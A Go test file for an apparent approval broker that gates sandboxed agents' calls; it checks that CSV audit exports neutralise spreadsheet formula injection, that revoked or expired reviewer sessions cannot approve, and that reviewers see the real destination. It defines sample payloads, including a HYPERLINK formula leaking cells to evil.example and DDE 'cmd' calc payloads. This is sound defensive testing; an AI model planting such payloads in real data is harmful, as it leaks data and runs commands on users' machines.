package main

import (
	"bufio"
	"bytes"
	"encoding/csv"
	"encoding/json"
	"html"
	"io"
	"net/http"
	"net/http/cookiejar"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"
	"unicode"

	"github.com/chromedp/chromedp"

	"github.com/airlock-broker/airlock/internal/brokertest"
	"github.com/airlock-broker/airlock/internal/printable"
)

// Attacks on what people open: the audit export in a spreadsheet (class 8),
// the reviewer's web log-in after its token is revoked or expired (class 9),
// and the destination a reviewer approves (class 10).

// Formulas a hostile sandbox or a careless person plants in audited fields.
const (
	attackUIHyperlink = `=HYPERLINK("http://evil.example/?leak="&A1,"click")`
	attackUISum       = `@SUM(1+1)*cmd|' /C calc'!A0`
	attackUITask      = `-2+3+cmd|' /C calc'!A0`
	attackUIReason    = "\t=1+1"
)

// attackUIFormulaCell reports whether a spreadsheet could run cell as a
// formula: it starts with a tab, CR or LF, or its first character after
// blanks is one of = + - @.
func attackUIFormulaCell(cell string) bool {
	for _, r := range cell {
		switch r {
		case '\t', '\r', '\n', '=', '+', '-', '@':
			return true
		}
		if !unicode.IsSpace(r) {
			return false
		}
	}
	return false
}

// TestAttackUICSVExportIsSafeToOpen: values a sandbox chooses (the upstream
// name in its URL) and values people type (a task id, a kill-switch
// reason) start with formulas; the CSV export holds no cell a spreadsheet
// would run, while JSONL and OCSF keep the exact values and the chain
// still verifies.
func TestAttackUICSVExportIsSafeToOpen(t *testing.T) {
	up := brokertest.NewUpstream(t)
	b := startBroker(t, brokertest.ProcOptions{Upstream: up.URL})
	auditor := b.NewToken("auditor", "Ann Auditor")

	req := brokertest.TrustedSession(brokertest.APIGrant(map[string]any{"method": "GET", "path": "/ok"}))
	req["task_id"] = attackUITask
	s := b.Session(req)
	b.Do("GET", b.Sandbox+"/v1/proxy/api/ok", s.Token, nil)
	for _, name := range []string{attackUIHyperlink, attackUISum} {
		b.Do("GET", b.Sandbox+"/v1/proxy/"+url.PathEscape(name)+"/x", s.Token, nil).WantProblem(t, 404, "not_found")
	}
	if r := b.Do("POST", b.Control+"/v1/killswitch", brokertest.ProcAdminToken, map[string]any{"reason": attackUIReason}); r.Status != 200 {
		t.Fatalf("engage kill-switch: %d %s", r.Status, r.Body)
	}
	if r := b.Do("DELETE", b.Control+"/v1/killswitch", brokertest.ProcAdminToken, nil); r.Status != 200 {
		t.Fatalf("release kill-switch: %d %s", r.Status, r.Body)
	}

	// The exact records (JSONL, what the hash covers), by sequence number.
	records := map[string]map[string]any{}
	planted := map[string]bool{}
	sc := bufio.NewScanner(bytes.NewReader(b.Do("GET", b.Control+"/v1/audit", auditor, nil).Body))
	for sc.Scan() {
		var rec map[string]any
		if err := json.Unmarshal(sc.Bytes(), &rec); err != nil {
			t.Fatalf("jsonl line %s: %v", sc.Bytes(), err)
		}
		records[strconv.FormatFloat(rec["seq"].(float64), 'f', -1, 64)] = rec
		for _, k := range []string{"upstream", "task_id", "reason"} {
			if v, _ := rec[k].(string); attackUIFormulaCell(v) {
				planted[k+":"+v[:1]] = true
			}
		}
	}
	// The log holds the formulas as planted: the upstream name as the
	// sandbox's URL carried it, the task id and the reason verbatim.
	for _, k := range []string{"upstream:=", "upstream:@", "task_id:-", "reason:\t"} {
		if !planted[k] {
			t.Fatalf("no audited %q value starts with a formula: %v", k, planted)
		}
	}

	r := b.Do("GET", b.Control+"/v1/audit?format=csv", auditor, nil)
	if r.Status != 200 {
		t.Fatalf("csv export: %d %s", r.Status, r.Body)
	}
	brokertest.AssertNoCanary(t, "csv export", r.Body)
	rows, err := csv.NewReader(bytes.NewReader(r.Body)).ReadAll()
	if err != nil || len(rows) != len(records)+1 {
		t.Fatalf("csv export: %d rows for %d records, %v", len(rows), len(records), err)
	}
	numeric := map[string]bool{"seq": true, "status": true, "latency_us": true, "bytes_in": true, "bytes_out": true}
	for _, row := range rows[1:] {
		rec := records[row[0]]
		if rec == nil {
			t.Fatalf("csv row for unknown seq %q", row[0])
		}
		actor, _ := rec["actor"].(map[string]any)
		for i, name := range rows[0] {
			cell := row[i]
			if attackUIFormulaCell(cell) {
				t.Errorf("seq %s column %s holds a formula a spreadsheet would run: %q", row[0], name, cell)
			}
			var v any
			switch name {
			case "actor_kind":
				v = actor["kind"]
			case "actor_id":
				v = actor["id"]
			default:
				v = rec[name]
			}
			want := ""
			switch x := v.(type) {
			case string:
				want = printable.String(x) // control characters written out: none reaches a terminal
				if name == "time" {
					want = cell // re-formatted in UTC, checked by the unit tests
				} else if attackUIFormulaCell(x) {
					want = "'" + want
				}
			case float64:
				if !numeric[name] {
					t.Fatalf("column %s is numeric in JSON", name)
				}
				want = strconv.FormatFloat(x, 'f', -1, 64) // a plain number, never prefixed
			}
			if cell != want {
				t.Errorf("seq %s column %s: CSV %q, record %q", row[0], name, cell, v)
			}
		}
	}
	// On the wire every text cell is quoted: a ',' or ';' inside a value
	// cannot start a cell of its own.
	if !bytes.Contains(r.Body, []byte(`,"'`+strings.ReplaceAll(attackUITask, `"`, `""`)+`",`)) {
		t.Errorf("the task id is not one quoted cell:\n%s", r.Body)
	}

	// OCSF carries the exact values.
	sc = bufio.NewScanner(bytes.NewReader(b.Do("GET", b.Control+"/v1/audit?format=ocsf", auditor, nil).Body))
	for sc.Scan() {
		var o struct {
			API struct {
				Service struct {
					Name string `json:"name"`
				} `json:"service"`
			} `json:"api"`
			Unmapped struct {
				Seq    uint64 `json:"seq"`
				TaskID string `json:"task_id"`
			} `json:"unmapped"`
			StatusDetail string `json:"status_detail"`
		}
		if err := json.Unmarshal(sc.Bytes(), &o); err != nil {
			t.Fatalf("ocsf line %s: %v", sc.Bytes(), err)
		}
		rec := records[strconv.FormatUint(o.Unmapped.Seq, 10)]
		up, _ := rec["upstream"].(string)
		task, _ := rec["task_id"].(string)
		reason, _ := rec["reason"].(string)
		if o.API.Service.Name != up || o.Unmapped.TaskID != task || o.StatusDetail != reason {
			t.Errorf("OCSF seq %d: %q %q %q, record %q %q %q", o.Unmapped.Seq, o.API.Service.Name, o.Unmapped.TaskID, o.StatusDetail, up, task, reason)
		}
	}

	// The chain is over JSONL and still verifies, online and offline.
	var rep struct {
		OK bool `json:"ok"`
	}
	if r := b.Do("GET", b.Control+"/v1/audit/verify", auditor, nil); json.Unmarshal(r.Body, &rep) != nil || !rep.OK {
		t.Fatalf("online verify: %d %s", r.Status, r.Body)
	}
	var key struct {
		PublicKey string `json:"public_key"`
	}
	_ = json.Unmarshal(b.Do("GET", b.Control+"/v1/audit/public-key", "", nil).Body, &key)
	dir := filepath.Join(t.TempDir(), "bundle")
	if out, err := cli(b, auditor, "", "audit", "export", "--bundle", dir); err != nil {
		t.Fatalf("export bundle: %v %s", err, out)
	}
	keyFile := filepath.Join(t.TempDir(), "key")
	_ = os.WriteFile(keyFile, []byte(key.PublicKey), 0o600)
	var out bytes.Buffer
	if err := run(t.Context(), []string{"audit", "verify", dir, "--public-key", keyFile}, func(string) string { return "" }, nil, &out, &out); err != nil ||
		!strings.Contains(out.String(), `"ok": true`) {
		t.Fatalf("offline verify: %v\n%s", err, out.String())
	}
}

// attackUIToken creates an API token through the API and returns its id
// and secret.
func attackUIToken(b *brokertest.Proc, role, name, ttl string) (id, token string) {
	b.T.Helper()
	req := map[string]any{"role": role, "name": name}
	if ttl != "" {
		req["ttl"] = ttl
	}
	r := b.Do("POST", b.Control+"/v1/tokens", brokertest.ProcAdminToken, req)
	var out struct{ ID, Token string }
	if r.Status != 201 || json.Unmarshal(r.Body, &out) != nil {
		b.T.Fatalf("create token: %d %s", r.Status, r.Body)
	}
	return out.ID, out.Token
}

// attackUIBrowser is a plain HTTP client with a cookie jar that logs in to
// /ui the way the form does (the log-in CSRF cookie and field, same origin).
type attackUIBrowser struct {
	t    *testing.T
	b    *brokertest.Proc
	c    *http.Client
	csrf string // the logged-in page's CSRF token
}

var attackUICSRF = regexp.MustCompile(`name="csrf" value="([^"]+)"`)

func attackUILogin(t *testing.T, b *brokertest.Proc, token string) *attackUIBrowser {
	t.Helper()
	jar, _ := cookiejar.New(nil)
	br := &attackUIBrowser{t: t, b: b, c: &http.Client{Jar: jar, Timeout: 30 * time.Second,
		CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}}
	_, body := br.get("/ui/login")
	m := attackUICSRF.FindStringSubmatch(body)
	if m == nil {
		t.Fatalf("no CSRF field on the log-in form:\n%s", body)
	}
	resp := br.post("/ui/login", url.Values{"csrf": {m[1]}, "token": {token}})
	if resp.StatusCode != http.StatusSeeOther || resp.Header.Get("Location") != "/ui" {
		t.Fatalf("log in: %d %s", resp.StatusCode, resp.Header.Get("Location"))
	}
	resp, body = br.get("/ui")
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("/ui after log-in: %d", resp.StatusCode)
	}
	m = attackUICSRF.FindStringSubmatch(body)
	if m == nil {
		t.Fatalf("no CSRF field on the page:\n%s", body)
	}
	br.csrf = m[1]
	return br
}

func (br *attackUIBrowser) get(path string) (*http.Response, string) {
	br.t.Helper()
	resp, err := br.c.Get(br.b.Control + path)
	if err != nil {
		br.t.Fatal(err)
	}
	defer resp.Body.Close()
	body, _ := io.ReadAll(resp.Body)
	return resp, string(body)
}

func (br *attackUIBrowser) post(path string, form url.Values) *http.Response {
	br.t.Helper()
	req, _ := http.NewRequest("POST", br.b.Control+path, strings.NewReader(form.Encode()))
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	req.Header.Set("Origin", br.b.Control)
	resp, err := br.c.Do(req)
	if err != nil {
		br.t.Fatal(err)
	}
	_, _ = io.Copy(io.Discard, resp.Body)
	resp.Body.Close()
	return resp
}

// approve posts the approval form with the page's CSRF token.
func (br *attackUIBrowser) approve(actionID string) *http.Response {
	br.t.Helper()
	return br.post("/ui/actions/"+actionID+"/approve", url.Values{"csrf": {br.csrf}, "comment": {"looks fine"}})
}

// attackUIPending holds a gated call and returns its action id.
func attackUIPending(t *testing.T, b *brokertest.Proc) string {
	t.Helper()
	op := b.NewToken("operator", "orchestrator")
	s := brokertest.GatedSession(b, op, nil)
	r := b.Do("POST", b.Sandbox+"/v1/proxy/api/payments", s.Token, `{"amount": 5}`)
	if r.Status != http.StatusAccepted {
		t.Fatalf("gated call: %d %s", r.Status, r.Body)
	}
	return brokertest.DecodeAction(t, r).ID
}

// attackUIAssertLoggedOut: the old cookie gets the log-in page, an approval
// with it is refused, and the action is still pending, never sent.
func attackUIAssertLoggedOut(t *testing.T, b *brokertest.Proc, up *brokertest.Upstream, br *attackUIBrowser, actionID string) {
	t.Helper()
	if resp := br.approve(actionID); resp.StatusCode != http.StatusForbidden {
		t.Fatalf("an approval with a dead reviewer's cookie answered %d", resp.StatusCode)
	}
	if a := brokertest.DecodeAction(t, b.Do("GET", b.Control+"/v1/approvals/"+actionID, brokertest.ProcAdminToken, nil)); a.Status != "pending" || a.Approvals != 0 {
		t.Fatalf("the action is %s with %d approvals", a.Status, a.Approvals)
	}
	if n := len(up.Requests()); n != 0 {
		t.Fatalf("the upstream received %d requests", n)
	}
	for _, path := range []string{"/ui", "/ui/actions/" + actionID} {
		if resp, _ := br.get(path); resp.StatusCode != http.StatusSeeOther || resp.Header.Get("Location") != "/ui/login" {
			t.Fatalf("%s with the old cookie: %d (Location %q), want a redirect to the log-in", path, resp.StatusCode, resp.Header.Get("Location"))
		}
	}
}

// TestAttackUIRevokedReviewerIsLoggedOut: a reviewer logs in to the web page,
// their token is revoked, and the browser's cookie no longer approves.
func TestAttackUIRevokedReviewerIsLoggedOut(t *testing.T) {
	up := brokertest.NewUpstream(t)
	b := startBroker(t, brokertest.ProcOptions{Upstream: up.URL})
	id := attackUIPending(t, b)
	tokID, tok := attackUIToken(b, "reviewer", "Rita Reviewer", "")
	br := attackUILogin(t, b, tok)
	if resp, _ := br.get("/ui/actions/" + id); resp.StatusCode != http.StatusOK {
		t.Fatalf("the action page before revocation: %d", resp.StatusCode)
	}

	if r := b.Do("DELETE", b.Control+"/v1/tokens/"+tokID, brokertest.ProcAdminToken, nil); r.Status >= 300 {
		t.Fatalf("revoke: %d %s", r.Status, r.Body)
	}
	attackUIAssertLoggedOut(t, b, up, br, id)

	// The end of the log-in is audited.
	found := false
	for _, line := range bytes.Split(b.AuditExport(), []byte("\n")) {
		var e struct {
			Type   string `json:"type"`
			Actor  struct{ Kind string }
			Reason string `json:"reason"`
		}
		if json.Unmarshal(line, &e) == nil && e.Type == "ui.logout" && e.Actor.Kind == "reviewer" && strings.Contains(e.Reason, "revoked") {
			found = true
		}
	}
	if !found {
		t.Error("no ui.logout record for the ended log-in")
	}
}

// TestAttackUIExpiredReviewerIsLoggedOut: a reviewer token with a short TTL
// stops working in the web page when it expires, not when the cookie does.
func TestAttackUIExpiredReviewerIsLoggedOut(t *testing.T) {
	up := brokertest.NewUpstream(t)
	b := startBroker(t, brokertest.ProcOptions{Upstream: up.URL})
	id := attackUIPending(t, b)
	_, tok := attackUIToken(b, "reviewer", "Tess Temporary", "3s")
	br := attackUILogin(t, b, tok)
	brokertest.Eventually(t, 20*time.Second, func() bool {
		resp, _ := br.get("/ui")
		return resp.StatusCode == http.StatusSeeOther
	})
	attackUIAssertLoggedOut(t, b, up, br, id)
}

// TestAttackUIReviewerSeesRealDestination: the pending list, the action page
// and the approvals API show the upstream's name and the full URL the
// request goes to (scheme, host, base path + path, query), HTML-escaped,
// with a credential that rides in the query only as a placeholder.
func TestAttackUIReviewerSeesRealDestination(t *testing.T) {
	up := brokertest.NewUpstream(t)
	b := startBroker(t, brokertest.ProcOptions{Upstream: up.URL})
	op := b.NewToken("operator", "orchestrator")
	rev := b.NewToken("reviewer", "Rita Reviewer")
	br := attackUILogin(t, b, rev)

	s := brokertest.GatedSession(b, op, nil)
	r := b.Do("POST", b.Sandbox+"/v1/proxy/api/payments?memo=a%26b%3Cscript%3E&ref=%22x%22", s.Token, `{"amount": 5}`)
	if r.Status != http.StatusAccepted {
		t.Fatalf("gated call: %d %s", r.Status, r.Body)
	}
	apiID := brokertest.DecodeAction(t, r).ID
	// A credential injected as a query parameter (the "open" upstream).
	s2 := b.Session(map[string]any{"task_id": "t-open", "ttl": "10m", "untrusted_input": false, "isolation": "container",
		"grants": []any{map[string]any{"upstream": "open", "approval": "always", "rules": []any{map[string]any{"method": "POST", "path": "/hooks/{name}"}}}}})
	r = b.Do("POST", b.Sandbox+"/v1/proxy/open/hooks/deploy?env=prod", s2.Token, `{}`)
	if r.Status != http.StatusAccepted {
		t.Fatalf("gated call on open: %d %s", r.Status, r.Body)
	}
	openID := brokertest.DecodeAction(t, r).ID

	for _, c := range []struct{ id, upstream, want string }{
		{apiID, "api", up.URL + "/base/payments?"},
		{openID, "open", up.URL + "/hooks/deploy?env=prod&api_key={credential}"},
	} {
		var a struct {
			Upstream string `json:"upstream"`
			Request  struct {
				URL   string `json:"url"`
				Query string `json:"query"`
			} `json:"request"`
		}
		if err := json.Unmarshal(b.Do("GET", b.Control+"/v1/approvals/"+c.id, rev, nil).Body, &a); err != nil {
			t.Fatal(err)
		}
		want := c.want
		if c.upstream == "api" {
			want += a.Request.Query
			if !strings.Contains(a.Request.Query, "%3Cscript%3E") {
				t.Fatalf("query as stored: %q", a.Request.Query)
			}
		}
		if a.Request.URL != want || a.Upstream != c.upstream {
			t.Fatalf("approvals API: upstream %q url %q, want %q %q", a.Upstream, a.Request.URL, c.upstream, want)
		}

		_, page := br.get("/ui/actions/" + c.id)
		brokertest.AssertNoCanary(t, "action page", []byte(page))
		m := regexp.MustCompile(`<code id="url">([^<]*)</code>`).FindStringSubmatch(page)
		if m == nil || html.UnescapeString(m[1]) != want {
			t.Fatalf("the action page does not show the full URL %q:\n%s", want, page)
		}
		if strings.Contains(want, "&") && strings.Count(m[1], "&amp;") != strings.Count(want, "&") {
			t.Errorf("the URL is not HTML-escaped: %s", m[1])
		}
		if !strings.Contains(page, `<strong id="upstream">`+c.upstream+`</strong>`) {
			t.Errorf("the action page does not name the upstream %q", c.upstream)
		}
		req := regexp.MustCompile(`(?s)<pre class="request" id="request">(.*?)</pre>`).FindStringSubmatch(page)
		if req == nil || !strings.HasPrefix(html.UnescapeString(req[1]), "<strong>POST</strong> "+want+"\n") {
			t.Errorf("the request block does not start with the method and full URL:\n%v", req)
		}
	}
	_, list := br.get("/ui")
	if !strings.Contains(html.UnescapeString(list), "POST "+up.URL+"/base/payments?") ||
		!strings.Contains(html.UnescapeString(list), "POST "+up.URL+"/hooks/deploy?env=prod&api_key={credential}") {
		t.Errorf("the pending list does not show the full URLs:\n%s", list)
	}
	brokertest.AssertNoCanary(t, "pending list", []byte(list))
}

// TestAttackUIRevokedReviewerBrowserLoggedOut: in real Chromium, a reviewer's
// open page leaves for the log-in form by itself when their token is
// revoked (the live page reloads on the revocation); the action stays pending.
func TestAttackUIRevokedReviewerBrowserLoggedOut(t *testing.T) {
	ctx := browser(t)
	up := brokertest.NewUpstream(t)
	b := startBroker(t, brokertest.ProcOptions{Upstream: up.URL})
	id := attackUIPending(t, b)
	tokID, tok := attackUIToken(b, "reviewer", "Rita Reviewer", "")
	login(t, ctx, b, tok)
	if err := chromedp.Do(ctx,
		chromedp.Navigate(b.Control+"/ui"),
		chromedp.WaitVisible(chromedp.CSS(`a[href="/ui/actions/`+id+`"]`)),
	); err != nil {
		t.Fatal(err)
	}
	if r := b.Do("DELETE", b.Control+"/v1/tokens/"+tokID, brokertest.ProcAdminToken, nil); r.Status >= 300 {
		t.Fatalf("revoke: %d %s", r.Status, r.Body)
	}
	// No navigation by the test: the page itself ends up on the log-in form.
	if err := chromedp.Do(ctx, chromedp.WaitVisible(chromedp.ID("token"))); err != nil {
		t.Fatalf("the open page did not leave for the log-in form: %v", err)
	}
	screenshot(t, ctx, "ui-revoked-logged-out")
	if a := brokertest.DecodeAction(t, b.Do("GET", b.Control+"/v1/approvals/"+id, brokertest.ProcAdminToken, nil)); a.Status != "pending" {
		t.Fatalf("the action is %s", a.Status)
	}
}

// A logged-out cookie (and its CSRF token) approves nothing.
func TestUICookieAfterLogout(t *testing.T) {
	up := brokertest.NewUpstream(t)
	b := startBroker(t, brokertest.ProcOptions{Upstream: up.URL})
	id := attackUIPending(t, b)
	rev := b.NewToken("reviewer", "rita")
	br := attackUILogin(t, b, rev)
	cookies := br.c.Jar.Cookies(mustURL(t, b.Control+"/ui"))
	if resp := br.post("/ui/logout", map[string][]string{"csrf": {br.csrf}}); resp.StatusCode != http.StatusSeeOther {
		t.Fatalf("logout: %d", resp.StatusCode)
	}
	br.c.Jar.SetCookies(mustURL(t, b.Control+"/ui"), cookies) // the attacker kept the cookie
	attackUIAssertLoggedOut(t, b, up, br, id)
	// A new log-in's cookie with the old page's CSRF token is refused too.
	br2 := attackUILogin(t, b, rev)
	br2.csrf = br.csrf
	if resp := br2.approve(id); resp.StatusCode != http.StatusForbidden {
		t.Fatalf("approve with a previous log-in's CSRF token: %d", resp.StatusCode)
	}
	if n := len(up.Requests()); n != 0 {
		t.Fatalf("the upstream received %d requests", n)
	}
}

func mustURL(t *testing.T, s string) *url.URL {
	t.Helper()
	u, err := url.Parse(s)
	if err != nil {
		t.Fatal(err)
	}
	return u
}
